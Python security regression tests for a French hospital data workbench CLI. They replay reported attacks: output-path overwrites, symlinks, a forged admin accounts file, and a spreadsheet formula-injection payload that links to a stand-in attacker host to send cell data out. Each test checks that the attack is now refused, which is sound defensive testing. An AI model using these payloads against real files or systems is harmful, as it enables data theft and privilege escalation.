"""Issue 12, findings 3, 4 and part of 9, attacked through the real CLI (a subprocess, as a user runs it).

- 3: a user's ``--out`` overwrote the audit log, ``access.yaml``, the reports
  store; ``wiki sync`` was open to everyone;
- 4: the caller chose the accounts file (``--access``, ``$WORKBENCH_ACCESS``)
  and could make himself admin;
- 9: catalogue example values stored in catalog.yaml and shown outside the
  reader's perimeter; a clinician's ``catalog list`` failing; problem reports
  readable by all and movable by anyone in anyone's name; a corrupt warehouse
  file as an internal error; spreadsheet formulas in CSV/XLSX.

Each test reproduces the attack and asserts that it now fails cleanly (exit 1,
one French line, an audit line) and that the target is intact. Expected rows
come from SQL on the DuckDB file, never from the workbench.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from access.test_surfaces import PERIMETER_STAYS
from deployment_support import user_exports, write_deployment
from workbench import audit
from workbench.access.model import AccessFile, Policy, UserEntry, hash_password, save_access
from workbench.paths import PROJECT_ROOT
from workbench.quality.reports import ReportStore

PASSWORD = "mot-de-passe-h2"
CARDIO = "014-S03"  # service Cardiologie, hospital 014
ROLES = {"clinicien": (CARDIO,), "referent_pilotage": (), "equipe_entrepot": (), "admin": ()}
YEAR = ("--from", "2024-01", "--to", "2024-12")


@pytest.fixture()
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The deployment's state folder (audit log, reports), one per test."""
    folder = tmp_path / "state"
    monkeypatch.setenv("WORKBENCH_STATE", str(folder))
    return folder


@pytest.fixture()
def accounts(tmp_path: Path) -> Path:
    """One account per role, `h2.<role>`, password `PASSWORD`."""
    digest = hash_password(PASSWORD)
    path = tmp_path / "config" / "access.yaml"
    path.parent.mkdir()
    save_access(AccessFile(path, Policy(min_count=10), {
        f"h2.{role}": UserEntry(role=role, perimeter=perimeter, password_hash=digest) for role, perimeter in ROLES.items()}))
    return path


@pytest.fixture()
def config(accounts: Path, demo_dir: Path, state: Path) -> Path:
    """The deployment: these accounts, the session's demo catalogue, the test's state (root-owned, 0644)."""
    return write_deployment(accounts.parent, access=accounts, catalog=demo_dir / "catalog.yaml", state=state)


def run(*args: str, role: str | None = None, config: Path | None = None, password: str = PASSWORD,
        **environment: str) -> subprocess.CompletedProcess[str]:
    """`workbench [--utilisateur h2.<role>] ARGS` in a subprocess; `environment` adds variables
    (the caller's own WORKBENCH_* are dropped first, as a user's shell would not have the tests')."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("WORKBENCH_") or k == "WORKBENCH_VOCAB"}
    env.update(WORKBENCH_PASSWORD=password, **environment)
    if config is not None:
        env["WORKBENCH_CONFIG"] = str(config)
    argv = [sys.executable, "-m", "workbench.cli"] + (["--utilisateur", f"h2.{role}"] if role else [])
    return subprocess.run([*argv, *args], cwd=PROJECT_ROOT, env=env, stdin=subprocess.DEVNULL, capture_output=True,
                          text=True, timeout=600, check=False)


def events(state: Path, kind: str) -> list[dict]:
    return [e for e in audit.read(state / audit.FILE_NAME) if e.get("event") == kind]


def refused_cleanly(done: subprocess.CompletedProcess[str], words: str) -> None:
    assert done.returncode == 1, (done.returncode, done.stderr)
    assert done.stderr.startswith("Erreur : ") and words in done.stderr, done.stderr
    assert len(done.stderr.splitlines()) == 1 and "Traceback" not in done.stderr and "interne" not in done.stderr


# ----------------------------------------------------------------- finding 3


def test_finding_3_a_users_outputs_cannot_touch_the_workbench_files(config: Path, accounts: Path, state: Path,
                                                                    tmp_path: Path) -> None:
    compute = ("indicators", "compute", "nb_sejours", "--by", "hospital", "--grain", "year", *YEAR, "--format", "csv")
    done = run(*compute, "--out", "cube.csv", role="referent_pilotage", config=config)
    assert done.returncode == 0, done.stderr
    folder = user_exports(state, "h2.referent_pilotage")
    written = folder / "cube.csv"
    rows = list(csv.DictReader(line for line in written.read_text(encoding="utf-8").splitlines()
                               if not line.startswith("#")))
    (export,) = events(state, "export")
    assert (export["user"], export["destination"], export["rows"]) == ("h2.referent_pilotage", str(written), len(rows))
    assert [p.name for p in folder.iterdir()] == ["cube.csv"]  # atomic: no temporary file left behind
    log = (state / audit.FILE_NAME).read_bytes()
    access = accounts.read_bytes()
    ReportStore(state).file("un signalement", "dr.x")
    (folder / "lien.csv").symlink_to(state / audit.FILE_NAME)
    targets = [str(state / audit.FILE_NAME), "../../audit.jsonl", str(accounts), str(config),
               str(state / "reports.sqlite"), "lien.csv", str(user_exports(state, "h2.clinicien") / "x.csv")]
    for target in targets:
        refused_cleanly(run(*compute, "--out", target, role="referent_pilotage", config=config), "sortie refusée")
    refused_cleanly(run("notebook", "new", "pmsi_casemix", "--out", str(tmp_path / "nb.ipynb"), role="clinicien",
                        config=config), "sortie refusée")
    refused_cleanly(run("wiki", "build", "--sans-donnees", "--out", str(state), role="clinicien", config=config),
                    "sortie refusée")
    refused_cleanly(run("wiki", "sync", "--remote", str(tmp_path / "depot"), "--into", "wiki", role="clinicien",
                        config=config), "réservée au rôle admin")
    assert (state / audit.FILE_NAME).read_bytes().startswith(log)  # appended to, never overwritten
    assert accounts.read_bytes() == access and (folder / "lien.csv").is_symlink()
    assert [r.what for r in ReportStore(state).list()] == ["un signalement"]
    assert not (tmp_path / "nb.ipynb").exists() and not (tmp_path / "wiki").exists()
    refusals = events(state, "refused")
    assert [e.get("destination") for e in refusals[:len(targets)]] == targets
    assert [e["command"] for e in refusals[len(targets):]] == ["notebook new", "wiki build", "wiki sync"]


# ----------------------------------------------------------------- finding 4


def test_finding_4_the_caller_cannot_choose_the_accounts_or_the_state(config: Path, tmp_path: Path, state: Path,
                                                                      demo_dir: Path) -> None:
    forged = tmp_path / "forged" / "access.yaml"
    forged.parent.mkdir()
    save_access(AccessFile(forged, Policy(min_count=1), {
        "intrus": UserEntry(role="admin", password_hash=hash_password("intrus")),
        "h2.referent_pilotage": UserEntry(role="referent_pilotage", password_hash=hash_password(PASSWORD))}))
    attempts = [
        run("--access", str(forged), "--utilisateur", "intrus", "users", "list", config=config, password="intrus"),
        run("--utilisateur", "intrus", "users", "list", config=config, password="intrus",
            WORKBENCH_ACCESS=str(forged)),
        run("indicators", "list", role="referent_pilotage", config=config, WORKBENCH_STATE=str(tmp_path / "mine")),
        run("--catalog", str(tmp_path / "catalog.yaml"), "indicators", "list", role="referent_pilotage",
            config=config),
    ]
    for done in attempts:
        refused_cleanly(done, "configuration refusée")
        assert done.stdout == ""
    given = [e["given"] for e in events(state, "refused")]
    assert given == [{"access": str(forged)}, {"access": str(forged)}, {"state": str(tmp_path / "mine")},
                     {"catalog": str(tmp_path / "catalog.yaml")}]
    assert not (tmp_path / "mine").exists()  # the refusal went to the deployment's log, not the caller's
    assert not [e for e in events(state, "login") if e.get("ok")]
    # the deployment file itself: a user-writable or user-owned one is refused, a missing one too
    writable = write_deployment(tmp_path / "writable", access=forged, catalog=demo_dir / "catalog.yaml", state=state)
    writable.chmod(0o666)
    owned = write_deployment(tmp_path / "owned", access=forged, catalog=demo_dir / "catalog.yaml", state=state)
    os.chown(owned, 1000, 1000)
    for path, words in [(writable, "doit appartenir à root"), (owned, "doit appartenir à root"),
                        (tmp_path / "absent.yaml", "introuvable")]:
        refused_cleanly(run("--utilisateur", "intrus", "users", "list", config=path, password="intrus"), words)
    # the deployment's own accounts work, and its paths are used without being repeated
    done = run("indicators", "list", "--format", "json", role="referent_pilotage", config=config)
    assert done.returncode == 0, done.stderr
    assert [(e["user"], e["ok"]) for e in events(state, "login")] == [("h2.referent_pilotage", True)]


def test_finding_4_a_deployment_that_fixes_the_wiki_refuses_another(accounts: Path, demo_dir: Path, state: Path,
                                                                     tmp_path: Path) -> None:
    """Relative paths are the deployment file's folder's; a fixed wiki refuses the caller's --wiki and $WORKBENCH_WIKI."""
    import shutil

    shutil.copytree(PROJECT_ROOT / "wiki", accounts.parent / "wiki")
    config = accounts.parent / "deployment.yaml"
    config.write_text(f"access: access.yaml\ncatalog: {demo_dir / 'catalog.yaml'}\nstate: {state}\nwiki: wiki\n",
                      encoding="utf-8")
    config.chmod(0o644)
    done = run("indicators", "list", "--format", "json", role="clinicien", config=config)
    assert done.returncode == 0, done.stderr
    assert "nb_sejours" in {row["id"] for row in json.loads(done.stdout)}
    forged = tmp_path / "forged-wiki"
    refused_cleanly(run("indicators", "list", "--wiki", str(forged), role="clinicien", config=config),
                    "le wiki est celui du déploiement")
    refused_cleanly(run("indicators", "list", role="clinicien", config=config, WORKBENCH_WIKI=str(forged)),
                    "configuration refusée")
    assert [e["user"] for e in events(state, "refused")] == ["h2.clinicien", "h2.clinicien"]


# ----------------------------------------------------------------- finding 9: catalogue


def test_finding_9_catalogue_examples_are_never_stored_and_stay_in_the_perimeter(config: Path, demo_dir: Path,
                                                                                  state: Path) -> None:
    assert "examples" not in (demo_dir / "catalog.yaml").read_text(encoding="utf-8")
    assert "examples" not in (PROJECT_ROOT / "catalog.yaml").read_text(encoding="utf-8")
    with duckdb.connect(str(demo_dir / "eds.duckdb"), read_only=True) as con:
        stays = PERIMETER_STAYS.format(codes=f"'{CARDIO}'")
        mine = {row[0] for row in con.execute(
            f"SELECT DISTINCT person_id FROM visit_occurrence WHERE visit_occurrence_id IN ({stays})").fetchall()}
        my_stays = len(con.execute(stays).fetchall())
    shown = run("catalog", "show", "person", "--format", "json", role="clinicien", config=config)
    assert shown.returncode == 0, shown.stderr
    examples = {c["name"]: c["examples"] for c in json.loads(shown.stdout)["columns"]}
    assert examples["person_id"] and set(examples["person_id"]) <= mine
    everyone = run("--catalog", str(demo_dir / "catalog.yaml"), "catalog", "show", "person", "--format", "json",
                   WORKBENCH_STATE=str(state))
    first = {c["name"]: c["examples"] for c in json.loads(everyone.stdout)["columns"]}["person_id"]
    assert set(first) - mine, "the first rows of person hold patients outside the perimeter: the check proves nothing"
    listed = run("catalog", "list", "--format", "json", role="clinicien", config=config)
    assert listed.returncode == 0, listed.stderr
    rows = {r["name"]: r for r in json.loads(listed.stdout)}
    assert (rows["person_identity"]["readable"], rows["person_identity"]["rows"]) == (False, None)
    assert (rows["visit_occurrence"]["readable"], rows["visit_occurrence"]["rows"]) == (True, my_stays)
    assert not events(state, "refused")  # marked, not attempted
    referent = run("catalog", "list", "--format", "json", role="referent_pilotage", config=config)
    assert referent.returncode == 0, referent.stderr
    rows = {r["name"]: r for r in json.loads(referent.stdout)}
    assert not rows["person"]["readable"] and not rows["stays"]["readable"] and rows["care_site"]["readable"]
    refused_cleanly(run("catalog", "show", "person", role="referent_pilotage", config=config), "accès refusé")


def test_finding_9_the_catalogue_page_of_a_clinician_lists_his_tables_and_marks_the_rest(
        browser, accounts: Path, demo_dir: Path, state: Path) -> None:
    """The page's table list failed for him as `catalog list` did (person_identity refused): now his counts,
    and the identity table marked."""
    from playwright.sync_api import expect

    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "dashboards"))  # the served-app helpers
    from dashboard_support import log_in, start_server, stop_server

    with duckdb.connect(str(demo_dir / "eds.duckdb"), read_only=True) as con:
        my_stays = len(con.execute(PERIMETER_STAYS.format(codes=f"'{CARDIO}'")).fetchall())
    server = start_server(demo_dir / "catalog.yaml", "test_outputs_and_config_catalogue",
                          env={"WORKBENCH_STATE": str(state)}, access=accounts)
    page = browser.new_page()
    try:
        page.goto(f"{server.url}/catalogue")
        log_in(page, "h2.clinicien", PASSWORD)
        listing = page.locator(".wb-table-list")
        expect(listing.locator('tr[data-table="person_identity"]')).to_contain_text("accès refusé", timeout=180_000)
        expect(listing.locator('tr[data-table="visit_occurrence"] .wb-count')).to_have_attribute(
            "data-count", str(my_stays))
    finally:
        page.close()
        stop_server(server)


# ----------------------------------------------------------------- finding 9: problem reports


def test_finding_9_problem_reports_by_perimeter_moved_by_the_team_under_their_own_name(config: Path,
                                                                                        state: Path) -> None:
    store = ReportStore(state)
    cardio = store.file("séjours manquants en cardiologie", "dr.x", "nb_sejours", {"service": [CARDIO]}).report_id
    hospital = store.file("DMS aberrante", "dr.y", "dms", {"hospital": ["014"], "service": ""}).report_id
    own = store.file("total AP-HP étrange", "h2.clinicien", "nb_sejours", {}).report_id

    def listed(role: str) -> set[int]:
        done = run("reports", "list", "--format", "json", role=role, config=config)
        assert done.returncode == 0, done.stderr
        return {r["report_id"] for r in json.loads(done.stdout)}

    assert listed("clinicien") == {cardio, own}  # the hospital's report is wider than his service
    assert listed("referent_pilotage") == {cardio, hospital, own}
    refused_cleanly(run("reports", "move", str(cardio), "pris en charge", role="clinicien", config=config),
                    "seuls l'équipe entrepôt et l'administrateur")
    refused_cleanly(run("reports", "move", str(cardio), "pris en charge", "--by", "h2.admin", role="equipe_entrepot",
                        config=config), "au nom de l'utilisateur connecté")
    assert store.get(cardio).status == "nouveau"
    assert [(e["user"], e["command"]) for e in events(state, "refused")] == [
        ("h2.clinicien", "reports move"), ("h2.equipe_entrepot", "reports move")]
    done = run("reports", "move", str(cardio), "pris en charge", role="equipe_entrepot", config=config)
    assert done.returncode == 0, done.stderr
    moved = store.get(cardio)
    assert (moved.status, moved.events[-1].actor) == ("pris en charge", "h2.equipe_entrepot")
    (event,) = [e for e in events(state, "report") if e["action"] == "move"]
    assert (event["user"], event["report_id"], event["before"], event["after"]) == (
        "h2.equipe_entrepot", cardio, "nouveau", "pris en charge")


# ----------------------------------------------------------------- finding 9: corrupt warehouse file


@pytest.mark.parametrize("damage", ["random", "empty", "truncated to a third", "truncated to nine tenths"])
def test_finding_9_a_corrupt_warehouse_file_is_a_clear_user_error(damage: str, demo_dir: Path, tmp_path: Path,
                                                                  state: Path) -> None:
    good = (demo_dir / "eds.duckdb").read_bytes()
    damaged = {"random": os.urandom(len(good) // 4), "empty": b"", "truncated to a third": good[:len(good) // 3],
               "truncated to nine tenths": good[:len(good) * 9 // 10]}[damage]
    (tmp_path / "eds.duckdb").write_bytes(damaged)
    (tmp_path / "catalog.yaml").write_text((demo_dir / "catalog.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    for command in (("catalog", "list"),
                    ("indicators", "compute", "nb_sejours", "--by", "hospital", "--grain", "year", *YEAR)):
        done = run("--catalog", str(tmp_path / "catalog.yaml"), *command, WORKBENCH_STATE=str(state))
        refused_cleanly(done, "fichier de l'entrepôt illisible")
        assert str(tmp_path / "eds.duckdb") in done.stderr


# ----------------------------------------------------------------- finding 9: spreadsheet formulas


FORMULA = '=HYPERLINK("http://attaquant.example/?"&A1,"HA")'


@pytest.fixture()
def poisoned(tmp_path: Path, state: Path) -> Path:
    """The hand-written OMOP fixture whose hospital code is a spreadsheet formula, and its catalogue."""
    from semantic.fixtures import write_omop_csv

    export = write_omop_csv(tmp_path / "export", "5.4")
    table = export / "care_site.csv"
    rows = [[FORMULA if value == "HA" else value for value in row] for row in csv.reader(io.StringIO(table.read_text()))]
    with table.open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows(rows)
    done = run("catalog", "init", "--source", str(export), "--flavour", "omop", "--out", str(tmp_path / "catalog.yaml"),
               WORKBENCH_STATE=str(state))
    assert done.returncode == 0, done.stderr
    return tmp_path / "catalog.yaml"


def test_finding_9_csv_and_xlsx_cells_never_run_as_formulas(poisoned: Path, tmp_path: Path, state: Path) -> None:
    from openpyxl import load_workbook

    compute = ("--catalog", str(poisoned), "indicators", "compute", "nb_sejours", "--by", "hospital", "--grain", "year",
               "--from", "2110-01", "--to", "2110-12")
    done = run(*compute, "--format", "csv", "--out", str(tmp_path / "out.csv"), WORKBENCH_STATE=str(state))
    assert done.returncode == 0, done.stderr
    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(line for line in text.splitlines() if not line.startswith("#")) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    (row,) = csv.DictReader(line for line in text.splitlines() if not line.startswith("#"))
    assert row["n_patients"].isdigit() and row["numerator"].isdigit()  # numbers stay numbers, unquoted
    done = run(*compute, "--format", "xlsx", "--out", str(tmp_path / "out.xlsx"), WORKBENCH_STATE=str(state))
    assert done.returncode == 0, done.stderr
    book = load_workbook(tmp_path / "out.xlsx")
    values = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert not [cell.coordinate for cell in values if cell.data_type == "f"]  # no formula anywhere
    sheet = book.worksheets[0]
    data = {header.value: cell for header, cell in zip(sheet[1], sheet[2])}
    assert data["hospital"].value == "'" + FORMULA
    assert data["n_patients"].data_type == "n" and data["n_patients"].value == int(row["n_patients"])
